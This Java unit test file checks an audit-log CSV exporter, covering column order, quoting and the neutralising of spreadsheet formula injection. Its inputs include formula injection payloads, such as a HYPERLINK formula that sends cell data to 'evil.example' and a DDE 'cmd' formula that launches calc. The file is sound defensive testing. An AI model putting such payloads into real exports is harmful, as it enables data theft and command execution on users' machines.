package io.keyledger.query.audit;

import static org.assertj.core.api.Assertions.assertThat;

import io.keyledger.api.audit.AuditEvent;
import io.keyledger.api.audit.AuditEvent.Actor;
import io.keyledger.api.audit.AuditEvent.AuditOrigin;
import io.keyledger.api.audit.AuditEvent.Target;
import java.io.IOException;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The trail as a table for spreadsheets. */
class AuditCsvTest {

    private static AuditEvent named(@Nullable String name) {
        return new AuditEvent(
                "e1",
                7,
                "token.renamed",
                Instant.parse("2026-03-03T10:12:44.123Z"),
                new Actor(Actor.Type.ACCOUNT, "acc_ada", null, "Ada"),
                new Target("token", "tok_1", name),
                new AuditOrigin("2001:db8::1", null),
                "correlation",
                Map.of("permissions", List.of("a", "b")));
    }

    private static String row(AuditEvent event) {
        var out = new StringBuilder();
        try {
            AuditCsv.row(out, event);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return out.toString();
    }

    /** The cell with the name. */
    private static String cell(String name) {
        var row = row(named(name));
        return row.substring(row.indexOf("\"tok_1\",") + 8, row.indexOf(",\"2001:db8::1\""));
    }

    @Test
    void the_columns_have_these_names_in_this_order() throws IOException {
        var out = new StringBuilder();
        AuditCsv.header(out);
        assertThat(out.toString()).isEqualTo("""
            "position","id","occurredAt","type","actorType","actorAccountId","actorTokenId","actorName","targetType",\
            "targetId","targetName","ipAddress","userAgent","correlationId","details"\r
            """);
    }

    @Test
    void a_row_has_quotes_around_each_cell_and_nothing_where_there_is_nothing() {
        assertThat(row(named("ci"))).isEqualTo("""
            "7","e1","2026-03-03T10:12:44.123Z","token.renamed","account","acc_ada",,"Ada","token","tok_1","ci",\
            "2001:db8::1",,"correlation","{""permissions"":[""a"",""b""]}"\r
            """);
        assertThat(row(named(null))).contains("\"tok_1\",,\"2001:db8::1\"");
    }

    @Test
    void quotes_commas_and_line_breaks_stay_in_their_cell() {
        assertThat(cell("a,\"b\"\r\nc")).isEqualTo("\"a,\"\"b\"\"\r\nc\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(1)",
                "\tx",
                "\rx",
                "\nx",
                "=HYPERLINK(\"http://evil.example/\"&A1)",
                "＝1+1",
                "＋1",
                "－1",
                "＠x",
                " =1",
                "\"=1",
                "'=1",
            })
    void what_a_spreadsheet_would_take_for_a_formula_begins_with_an_apostrophe(String name) {
        assertThat(cell(name)).isEqualTo("\"'" + name.replace("\"", "\"\"") + "\"");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '#',
            value = {
                // Where a spreadsheet parts at semicolons, a new cell begins behind one, quotes or not.
                "x;=cmd|' /C calc'!A0 # x;'=cmd|' /C calc'!A0",
                "x; @SUM(1) # x; '@SUM(1)",
                "x\";\"=1 # x\";\"'=1",
                "x|-1 # x|'-1",
                "a;b=c # a;b=c",
                "a=b # a=b",
                "ci-deploy # ci-deploy",
            })
    void a_formula_behind_another_separator_is_guarded_too(String name, String guarded) {
        assertThat(cell(name)).isEqualTo("\"" + guarded.replace("\"", "\"\"") + "\"");
    }

    @Test
    void a_formula_after_a_line_break_is_guarded_too() {
        assertThat(cell("x\n=1")).isEqualTo("\"x\n'=1\"");
        assertThat(cell("x\r\n =1")).isEqualTo("\"x\r\n '=1\"");
        assertThat(cell("x\t+1")).isEqualTo("\"x\t'+1\"");
    }
}
